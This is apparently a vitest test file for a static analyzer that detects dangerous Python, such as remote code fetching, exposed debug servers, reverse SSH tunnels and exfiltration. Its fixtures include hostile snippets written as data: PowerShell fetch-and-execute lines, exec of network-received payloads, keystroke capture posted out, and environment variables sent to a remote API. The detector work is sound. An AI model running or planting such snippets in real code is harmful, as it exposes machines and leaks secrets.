import { expect, test } from 'vitest';
import downloadThenRun from '../../src/rules/download-then-run.js';
import type { SourceFacts } from '../../src/core/facts/source-facts.js';
import type { RuleFinding } from '../../src/core/rule.js';
import meddles from '../../src/rules/meddles-with-system.js';
import runsShippedData from '../../src/rules/runs-shipped-data.js';
import { commandTraits } from '../../src/python/vocabulary/commands.js';
import { read } from './reading.js';

const found = async (rule: { readonly check: (facts: SourceFacts) => readonly RuleFinding[] }, text: string) => {
  const { facts } = await read(`${text}\n`);
  return facts === null ? [] : rule.check(facts).map(({ severity }) => severity);
};

test.each([
  'import http.server\nhttp.server.ThreadingHTTPServer(("0.0.0.0", 8000), http.server.SimpleHTTPRequestHandler).serve_forever()',
  'import subprocess\nsubprocess.Popen(["ssh", "-fNR", "2222:localhost:22", "u@garden.invalid"])',
  'from pyngrok import ngrok\nngrok.connect(22, "tcp")',
  'import os\nos.system("cloudflared tunnel --url localhost:22")',
  'import debugpy\ndebugpy.listen(("0.0.0.0", 5678))',
  'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--ip=0.0.0.0", "--ServerApp.token="])',
  'import subprocess\nsubprocess.Popen(["dask", "worker", "tcp://garden.example.invalid:8786"])',
  'import docker\ndocker.from_env().containers.run("alpine", "sh", privileged=True)',
  'import docker\ndocker.from_env().containers.run("alpine", "sh", volumes={"/": {"bind": "/host"}})',
])('the machine is opened to others on import: %s', async (text) => {
  expect(await found(meddles, text)).toEqual(['critical']);
});

test.each([
  'import http.server\nclass Mine(http.server.BaseHTTPRequestHandler): pass\nhttp.server.HTTPServer(("", 0), Mine)',
  'import debugpy\ndebugpy.listen(("127.0.0.1", 5678))',
  'import subprocess\nsubprocess.Popen(["jupyter", "lab", "--no-browser"])',
  'import subprocess\nsubprocess.run(["ssh", "u@garden.invalid", "ls"])',
  'import docker\ndocker.from_env().containers.run("alpine", "true", volumes={"/data": {"bind": "/data"}})',
  'from pyngrok import ngrok\ndef serve():\n    ngrok.connect(22)',
])('a connection that somebody asks for opens nothing: %s', async (text) => {
  expect(await found(meddles, text)).toEqual([]);
});

test.each([
  'import httpimport\nwith httpimport.remote_repo("https://garden.invalid/a"):\n    import leaf',
  'import sys\nsys.path.append(r"\\\\garden.invalid\\share")',
  'import ctypes\nctypes.WinDLL(r"\\\\garden.invalid\\share\\leaf.dll")',
  'import xmlrpc.server, os\ns = xmlrpc.server.SimpleXMLRPCServer(("0.0.0.0", 8000))\ns.register_function(os.system)',
])('code out of another machine: %s', async (text) => {
  expect(await found(downloadThenRun, text)).toContain('critical');
});

const SERVER = 'import http.server, subprocess, threading\nclass Mine(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.wfile.write(subprocess.getoutput(self.path[1:]).encode())\n';

test('a server that runs what it is asked is there as soon as one is made for it', async () => {
  expect(await found(downloadThenRun, `${SERVER}threading.Thread(target=http.server.HTTPServer(("", 8081), Mine).serve_forever).start()`)).toContain('critical');
  expect(await found(downloadThenRun, `${SERVER}def serve():\n    http.server.HTTPServer(("", 8081), Mine).serve_forever()`)).not.toContain('critical');
});

test.each(['powershell -c "iex (iwr https://garden.invalid/a).Content"', 'deno run -A https://garden.invalid/a.ts', 'go run garden.invalid/a@latest', 'kubectl apply -f https://garden.invalid/pod.yaml', 'uvx git+https://garden.invalid/a'])('%s fetches and runs', (line) => {
  expect(commandTraits(line)).toContain('fetches-and-runs');
});

test.each(['deno run main.ts', 'go run ./cmd', 'kubectl apply -f pod.yaml', 'uvx ruff', 'wmic cpu get name'])('%s does not', (line) => {
  const traits = commandTraits(line);
  expect([traits.has('fetches-and-runs'), traits.has('hidden-shell')]).toEqual([false, false]);
});

test('a process that is nobody\'s child hides', () => {
  expect(commandTraits('wmic process call create "leaf.exe"')).toContain('hidden-shell');
});

test('pip is run as a module', async () => {
  const { facts } = await read('import runpy, sys\nsys.argv = ["pip", "install", "leaf"]\nrunpy.run_module("pip", run_name="__main__")\n');
  expect(facts?.calls('process').map(({ text }) => text)).toEqual(['pip install leaf']);
});

test('what is typed is read from the keyboard itself', async () => {
  const { facts } = await read('import requests\nwith open("/dev/input/event0", "rb") as f:\n    requests.post(u, data=f.read(24))\n');
  expect(facts?.flows({ from: 'observation', to: 'network' })).toHaveLength(1);
});

test.each(['import pyperclip\nexec(pyperclip.paste())', 'import os\nexec(os.getxattr(__file__, "user.x"))', 'import winreg\nexec(winreg.QueryValueEx(k, "leaf")[0])'])('code where no file is: %s', async (text) => {
  expect(await found(runsShippedData, text)).toEqual(['medium']);
});

test('a program whose place the registry knows is started', async () => {
  expect(await found(runsShippedData, 'import subprocess, winreg\nsubprocess.run([winreg.QueryValueEx(k, "leaf")[0]])')).toEqual([]);
});

const ran = async (text: string) => (await read(`import os, requests\n${text}\n`)).facts?.flows({ from: 'network', to: 'exec' }).map(({ sink }) => sink.name) ?? [];
const WRITES = 'open(os.path.join(os.path.dirname(__file__), "leaf.py"), "w").write(requests.get(u).text)';

test.each([`${WRITES}\nfrom . import leaf`, `${WRITES}\nfrom .leaf import f`, `${WRITES}\nimport importlib\nimportlib.import_module("garden.leaf")`])('a module that was fetched is imported: %s', async (text) => {
  expect(await ran(text)).toEqual(['import']);
});

test.each([`${WRITES}\nfrom . import stem`, 'open(os.path.join(os.path.dirname(__file__), "leaf.json"), "w").write(requests.get(u).text)\nfrom . import leaf', 'open(os.path.join(os.path.dirname(__file__), "leaf.py"), "w").write(str(1))\nfrom . import leaf'])('another one, or one of its own making, is not: %s', async (text) => {
  expect(await ran(text)).toEqual([]);
});

test.each([
  'import redis\np = redis.Redis("garden.invalid").pubsub()\nfor m in p.listen(): exec(m["data"])',
  'from kafka import KafkaConsumer\nfor m in KafkaConsumer("x", bootstrap_servers="garden.invalid"): exec(m.value)',
  'import aiohttp\nasync def m():\n    async with aiohttp.ClientSession() as s:\n        async with s.ws_connect(u) as w:\n            async for m in w: exec(m.data)',
  'import tornado.websocket\nasync def m():\n    c = await tornado.websocket.websocket_connect(u)\n    exec(await c.read_message())',
  'import asyncio\nclass P(asyncio.Protocol):\n    def data_received(self, data): exec(data)',
  'from twisted.internet import protocol\nclass P(protocol.Protocol):\n    def dataReceived(self, data): exec(data)',
  'import asyncore\nclass C(asyncore.dispatcher):\n    def handle_read(self): exec(self.recv(1000))',
  'import urllib.request\nclass H(urllib.request.BaseHandler):\n    def http_response(self, asked, reply): exec(reply.read())',
  'import urllib.request, urllib.error\ntry: urllib.request.urlopen(u)\nexcept urllib.error.HTTPError as e: exec(e.read())',
  'import win32com.client\nh = win32com.client.Dispatch("WinHttp.WinHttpRequest.5.1")\nh.Send()\nexec(h.ResponseText)',
  'from PyQt5.QtNetwork import QNetworkAccessManager\nexec(QNetworkAccessManager().get(u).readAll())',
  'import ssl\nexec(ssl.get_server_certificate(("garden.invalid", 443)))',
  'import paramiko\nexec(paramiko.SSHClient().open_sftp().open("x").read())',
])('code comes by any client: %s', async (text) => {
  expect(await ran(text)).toEqual(['exec']);
});

test('what a model is asked leaves the machine, and what it says is not fetched', async () => {
  const { facts } = await read('import anthropic, os\nr = anthropic.Anthropic().messages.create(messages=[{"role": "user", "content": str(dict(os.environ))}])\nexec(r)\n');
  expect([facts?.flows({ from: 'environment', to: 'network' }).length, facts?.flows({ from: 'network', to: 'exec' }).length]).toEqual([1, 0]);
});

test.each([
  'import ctypes\nctypes.windll.urlmon.URLDownloadToFileW(0, "https://garden.invalid/a.exe", "leaf.exe", 0, 0)\nos.startfile("leaf.exe")',
  'import boto3, subprocess\nboto3.client("s3").download_file("x", "leaf.sh", "/tmp/leaf.sh")\nsubprocess.run(["sh", "/tmp/leaf.sh"])',
  'import subprocess\nsubprocess.run(["gsutil", "cp", "gs://x/leaf.sh", "/tmp/leaf.sh"])\nsubprocess.run(["sh", "/tmp/leaf.sh"])',
])('a program that was fetched into a file is started: %s', async (text) => {
  expect((await read(`import os\n${text}\n`)).facts?.flows({ from: 'network', to: 'process' }).map(({ through }) => through)).toContain('file');
});
